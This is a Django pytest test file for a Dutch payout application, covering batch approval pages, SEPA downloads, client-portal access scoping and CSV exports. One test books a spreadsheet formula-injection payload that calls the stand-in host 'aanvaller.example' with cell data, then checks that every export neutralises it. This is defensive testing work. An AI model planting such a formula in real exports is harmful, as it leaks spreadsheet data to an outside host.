"""Staff pages, portal pages (scoped to the client), and the streaming CSV exports (page and API)."""

import csv
import io
from datetime import date
from decimal import Decimal as D

import pytest
from django.http import StreamingHttpResponse
from django.test import Client as DjangoClient
from django.urls import reverse

from inning.models import Journaalregel
from tests.conftest import login_als
from uitbetaling.models import SepaBestand, UitbetalingBatch
from uitbetaling.services import uitbetaling_batch_keur_goed, uitbetaling_batch_maak

from .conftest import DossierFactory, directe_betaling_boek, ontvangst_boek

pytestmark = pytest.mark.django_db


@pytest.fixture
def geboekte_batch(
    financieel, tweede_financieel, provisie_tarief, client_user, django_capture_on_commit_callbacks
):
    dossier = DossierFactory(client__user=client_user)
    ontvangst_boek(dossier, D("450.00"), datum=date(2026, 11, 16))
    with django_capture_on_commit_callbacks(execute=True):
        batch = uitbetaling_batch_maak(week="2026-W47", door=financieel)
    with django_capture_on_commit_callbacks(execute=True):
        uitbetaling_batch_keur_goed(batch=batch, door=tweede_financieel)
    return batch


def _csv(response, dialect: str) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    data = b"".join(response.streaming_content)
    tekst = data.decode("utf-8-sig" if dialect == "excel_nl" else "utf-8")
    if dialect == "excel_nl":
        assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(tekst), delimiter=";" if dialect == "excel_nl" else ","))


# --- Staff pages -------------------------------------------------------------------------------------


def test_financieel_prepares_a_batch_through_the_page(fin_client, provisie_tarief):
    ontvangst_boek(DossierFactory(), D("450.00"))
    r = fin_client.post(reverse("uitbetaling:batches"), {"week": "2026-w47"})
    batch = UitbetalingBatch.objects.get()
    assert r.status_code == 302 and r["Location"] == reverse("uitbetaling:batch", args=[batch.pk])
    assert batch.week == "2026-W47"
    pagina = fin_client.get(r["Location"])
    assert "U hebt deze batch voorbereid" in pagina.content.decode()


def test_bad_week_keeps_what_was_typed_and_says_why(fin_client):
    r = fin_client.post(reverse("uitbetaling:batches"), {"week": "week 47"})
    html = r.content.decode()
    assert r.status_code == 200
    assert "bijvoorbeeld 2026-W47" in html
    assert 'value="week 47"' in html
    assert not UitbetalingBatch.objects.exists()


def test_second_person_approves_on_the_page_and_downloads_the_sepa_file(
    fin_client, financieel, tweede_financieel, provisie_tarief, django_capture_on_commit_callbacks
):
    ontvangst_boek(DossierFactory(), D("450.00"))
    batch = uitbetaling_batch_maak(week="2026-W47", door=tweede_financieel)
    with django_capture_on_commit_callbacks(execute=True):
        r = fin_client.post(reverse("uitbetaling:batch_goedkeuren", args=[batch.pk]))
    assert r.status_code == 302
    batch.refresh_from_db()
    assert batch.status == UitbetalingBatch.Status.GEBOEKT and batch.goedgekeurd_door == financieel
    bestand = SepaBestand.objects.get()
    r = fin_client.get(reverse("uitbetaling:sepa_download", args=[bestand.pk]))
    assert r.status_code == 200 and r["Content-Type"] == "application/xml"
    assert b'<InstdAmt Ccy="EUR">396.00</InstdAmt>' in r.content
    bestand.refresh_from_db()
    assert bestand.gedownload_door == financieel


def test_preparer_sees_no_approve_button_and_a_post_is_refused(fin_client, financieel, provisie_tarief):
    ontvangst_boek(DossierFactory(), D("450.00"))
    batch = uitbetaling_batch_maak(week="2026-W47", door=financieel)
    assert (
        "Goedkeuren (tweede persoon)"
        not in fin_client.get(reverse("uitbetaling:batch", args=[batch.pk])).content.decode()
    )
    r = fin_client.post(reverse("uitbetaling:batch_goedkeuren", args=[batch.pk]), follow=True)
    assert "Vier ogen" in r.content.decode()
    batch.refresh_from_db()
    assert batch.status == UitbetalingBatch.Status.VOORBEREID


def test_case_manager_cannot_open_the_batch_pages(cm_client):
    assert cm_client.get(reverse("uitbetaling:batches")).status_code == 403
    assert cm_client.get(reverse("uitbetaling:export")).status_code == 403
    assert cm_client.get(reverse("uitbetaling:iban")).status_code == 200


def test_batch_list_query_count_does_not_grow_with_batches(
    fin_client, financieel, django_assert_max_num_queries
):
    for w in range(1, 15):
        UitbetalingBatch.objects.create(week=f"2026-W{w:02d}", voorbereid_door=financieel)
    with django_assert_max_num_queries(12):
        assert fin_client.get(reverse("uitbetaling:batches")).status_code == 200


def test_batch_detail_query_count_does_not_grow_with_payouts(
    fin_client, financieel, provisie_tarief, django_assert_max_num_queries
):
    for _ in range(12):
        ontvangst_boek(DossierFactory(), D("100.00"))
    batch = uitbetaling_batch_maak(week="2026-W47", door=financieel)
    with django_assert_max_num_queries(12):
        assert fin_client.get(reverse("uitbetaling:batch", args=[batch.pk])).status_code == 200


def test_case_manager_approves_a_new_iban_on_the_page(
    cm_client, casemanager, financieel, tweede_financieel, provisie_tarief, django_capture_on_commit_callbacks
):
    from django.utils import timezone

    dossier = DossierFactory(client__iban_gewijzigd_op=timezone.now())
    ontvangst_boek(dossier, D("450.00"))
    batch = uitbetaling_batch_maak(week="2026-W47", door=financieel)
    with django_capture_on_commit_callbacks(execute=True):
        uitbetaling_batch_keur_goed(batch=batch, door=tweede_financieel)
    assert not SepaBestand.objects.exists()  # the only payout waits
    u = batch.uitbetalingen.get()
    assert dossier.client.naam in cm_client.get(reverse("uitbetaling:iban")).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        r = cm_client.post(reverse("uitbetaling:iban_goedkeuren", args=[u.pk]))
    assert r.status_code == 302
    u.refresh_from_db()
    assert u.status == "geboekt" and u.iban_goedgekeurd_door == casemanager
    assert SepaBestand.objects.get().totaal == D("396.00")


def test_financieel_cannot_approve_an_iban(fin_client, financieel, provisie_tarief):
    from django.utils import timezone

    dossier = DossierFactory(client__iban_gewijzigd_op=timezone.now())
    ontvangst_boek(dossier, D("450.00"))
    u = uitbetaling_batch_maak(week="2026-W47", door=financieel).uitbetalingen.get()
    assert fin_client.post(reverse("uitbetaling:iban_goedkeuren", args=[u.pk])).status_code == 403
    u.refresh_from_db()
    assert u.wacht_op_iban_goedkeuring


# --- Portal --------------------------------------------------------------------------------------------


def test_client_sees_the_payout_and_its_specification(portaal_client, geboekte_batch):
    html = portaal_client.get(reverse("uitbetaling_portaal:overzicht")).content.decode()
    assert "2026-W47" in html and "€ 396,00" in html
    # booked and in a SEPA file, but no debit seen yet: not "overgemaakt" (issue 14 item 3)
    assert "klaargezet, nog niet naar de bank gestuurd" in html and "overgemaakt op" not in html
    assert "<svg" in html and "<title id=" in html  # the chart, with an accessible name
    assert "Bedragen per maand in " in html and " als tabel" in html  # the chosen year's months
    u = geboekte_batch.uitbetalingen.get()
    spec = portaal_client.get(reverse("uitbetaling_portaal:specificatie", args=[u.pk])).content.decode()
    assert "€ 450,00" in spec and "€ 54,00" in spec and "€ 9,37" in spec and "€ 396,00" in spec
    pdf = portaal_client.get(reverse("uitbetaling_portaal:specificatie_pdf", args=[u.pk]))
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")


def test_another_client_gets_404_for_payout_specification_and_invoice(
    geboekte_batch, maak_gebruiker, provisie_tarief
):
    from uitbetaling.models import Factuur

    ander = maak_gebruiker("client")
    DossierFactory(client__user=ander)
    c = login_als(DjangoClient(), ander)
    u = geboekte_batch.uitbetalingen.get()
    assert c.get(reverse("uitbetaling_portaal:specificatie", args=[u.pk])).status_code == 404
    assert c.get(reverse("uitbetaling_portaal:specificatie_pdf", args=[u.pk])).status_code == 404
    # and an invoice of the first client
    f = Factuur.objects.create(
        client=u.client,
        nummer="F-TEST",
        datum=date(2026, 11, 20),
        bedrag=D("24.00"),
        btw=D("4.17"),
        reden="x",
    )
    assert c.get(reverse("uitbetaling_portaal:factuur_pdf", args=[f.pk])).status_code == 404
    assert "2026-W47" not in c.get(reverse("uitbetaling_portaal:overzicht")).content.decode()


def test_staff_cannot_use_the_portal_pages(fin_client):
    assert fin_client.get(reverse("uitbetaling_portaal:overzicht")).status_code == 403


def test_portal_dossier_page_includes_the_money_section(portaal_client, geboekte_batch, client_user):
    dossier = client_user.client.dossiers.get()
    r = portaal_client.get(reverse("portaal:dossier", args=[dossier.pk]))
    assert r.status_code == 200
    html = r.content.decode()
    assert f"Geld in dossier {dossier.nummer}" in html
    assert "Uitbetaling aan u goedgekeurd" in html and "€ 396,00" in html


def test_direct_payment_invoice_is_listed_in_the_portal(
    portaal_client, client_user, financieel, provisie_tarief, django_capture_on_commit_callbacks
):
    dossier = (
        DossierFactory(client=None, client__user=client_user)
        if False
        else DossierFactory(client__user=client_user)
    )
    directe_betaling_boek(dossier, D("200.00"))
    with django_capture_on_commit_callbacks(execute=True):
        uitbetaling_batch_maak(week="2026-W47", door=financieel)
    html = portaal_client.get(reverse("uitbetaling_portaal:overzicht")).content.decode()
    assert "€ 24,00" in html and "F2026-47-" in html


# --- Exports ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("dialect", ["excel_nl", "plat"])
def test_journal_export_parses_back_and_debits_equal_credits(fin_client, geboekte_batch, dialect):
    r = fin_client.get(
        reverse("uitbetaling:export"),
        {"soort": "journaal", "van": "2026-01-01", "tot": "2026-12-31", "dialect": dialect},
    )
    rijen = _csv(r, dialect)
    kop, data = rijen[0], rijen[1:]
    assert kop[-3:] == ["debet", "credit", "tegenboeking_van"]
    assert len(data) == Journaalregel.objects.count()
    naar_decimal = (lambda s: D(s.replace(",", "."))) if dialect == "excel_nl" else D
    debet = sum(naar_decimal(r[9]) for r in data)
    credit = sum(naar_decimal(r[10]) for r in data)
    assert debet == credit > 0
    # the payout entry's 396.00 credit to the bank is there in the dialect's decimal mark
    assert any(
        r[4] == "uitbetaling"
        and r[6] == "bank_derdengelden"
        and r[10] == ("396,00" if dialect == "excel_nl" else "396.00")
        for r in data
    )


def test_payout_commission_and_balance_exports(fin_client, geboekte_batch):
    def haal(soort, **extra):
        return _csv(
            fin_client.get(
                reverse("uitbetaling:export"),
                {"soort": soort, "van": "2026-01-01", "tot": "2099-12-31", "dialect": "plat", **extra},
            ),
            "plat",
        )

    uit = haal("uitbetalingen")
    assert len(uit) == 2 and uit[1][6:9] == ["396.00", "0.00", "396.00"]
    prov = haal("provisie")
    assert prov[1][5:8] == ["54.00", "9.37", "44.63"]  # incl VAT, VAT, excl VAT: 54.00 − 9.37 = 44.63
    saldi = haal("saldi")
    assert saldi[1][3:] == ["0.00", "0.00"]  # paid out: nothing owed any more
    ontv = haal("ontvangsten")
    assert ontv[1][3] == "450.00"
    assert haal("deurwaarderskosten") == [
        ["datum", "kostenpost", "dossier", "omschrijving", "bedrag", "journaalpost"]
    ]


def test_export_form_errors_are_shown_in_dutch(fin_client):
    r = fin_client.get(
        reverse("uitbetaling:export"),
        {"soort": "journaal", "van": "2026-12-31", "tot": "2026-01-01", "dialect": "plat"},
    )
    assert r.status_code == 200 and "De einddatum ligt vóór de begindatum." in r.content.decode()


def test_api_export_for_financieel_streams_csv(fin_client, geboekte_batch):
    r = fin_client.get(
        "/api/v1/export/journaal/",
        {"van": "2026-01-01", "tot": "2026-12-31", "dialect": "excel_nl"},
        HTTP_ACCEPT="text/csv",
    )
    assert r.status_code == 200
    rijen = _csv(r, "excel_nl")
    assert rijen[0][0] == "datum" and len(rijen) == Journaalregel.objects.count() + 1


def test_api_export_refuses_other_roles_and_bad_input(cm_client, portaal_client, fin_client):
    url = "/api/v1/export/journaal/"
    params = {"van": "2026-01-01", "tot": "2026-12-31"}
    assert cm_client.get(url, params).status_code == 403
    assert portaal_client.get(url, params).status_code == 403
    assert DjangoClient().get(url, params).status_code == 403
    assert fin_client.get("/api/v1/export/onbekend/", params).status_code == 404
    r = fin_client.get(url, {"van": "2026-12-31", "tot": "2026-01-01"})
    assert r.status_code == 400 and "tot" in r.json()


def test_every_export_route_neutralises_a_formula_in_a_text_field(fin_client):
    """Issue 12 item 13: a description chosen by whoever made the transfer reaches the accountant's
    spreadsheet through the HTML download (both dialects) and the API; it must arrive as text."""
    from inning.ledger import journaalpost_boek, rekening

    formule = '=HYPERLINK("http://aanvaller.example/?"&A1;"klik")'
    journaalpost_boek(
        datum=date(2026, 11, 16),
        omschrijving=formule,
        regels=[(rekening("bank_derdengelden"), D("-25.00")), (rekening("ongealloceerd"), D("25.00"))],
        bron_type="bankregel",
        bron_id=1,
        sleutel="test-formule",
    )
    params = {"van": "2026-01-01", "tot": "2026-12-31"}
    antwoorden = {
        ("html", d): fin_client.get(
            reverse("uitbetaling:export"), {"soort": "journaal", "dialect": d, **params}
        )
        for d in ("excel_nl", "plat")
    }
    antwoorden["api", "excel_nl"] = fin_client.get(
        "/api/v1/export/journaal/", {"dialect": "excel_nl", **params}, HTTP_ACCEPT="text/csv"
    )
    for (route, dialect), r in antwoorden.items():
        rijen = _csv(r, dialect)[1:]
        cellen = {cel for rij in rijen for cel in rij}
        assert formule not in cellen, route
        assert "'" + formule in cellen, route
        # the amount is still a plain number in the dialect's own notation
        assert ("25,00" if dialect == "excel_nl" else "25.00") in cellen, route
